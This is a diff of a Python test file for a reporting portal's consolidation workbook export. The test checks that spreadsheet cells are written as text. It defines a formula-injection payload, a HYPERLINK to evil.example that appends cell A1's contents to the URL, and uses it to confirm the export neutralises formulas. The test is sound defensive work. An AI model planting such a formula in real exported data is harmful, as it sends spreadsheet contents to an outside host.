@@ -27,7 +27,7 @@ from portal.reports.consolidation import launch, run_consolidation
 from portal.reports.report import ReportValue, UnitReport
 from tenants.scoping import system_scope
 from tenants.unit import Unit
-from tests.builders import framework
+from tests.builders import exported, framework
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
@@ -93,7 +93,7 @@ def test_the_consolidation_workbook_writes_texts_as_text(hostile_province: int,
         db.session.commit()
         consolidation_id, root = row.id, row.unit_id
     run_consolidation(consolidation_id, root)
-    response = login_as("platform").get(f"/consolidations/{consolidation_id}/workbook.xlsx")
+    response = exported(login_as("platform"), consolidation_id, "xlsx")
     assert response.status_code == 200
     cells = assert_text_cells(response.data, HOSTILE, "-" + HOSTILE)
     counts = {c.coordinate: c for c in cells if c.parent.title == "Tổng hợp" and c.row == 4}
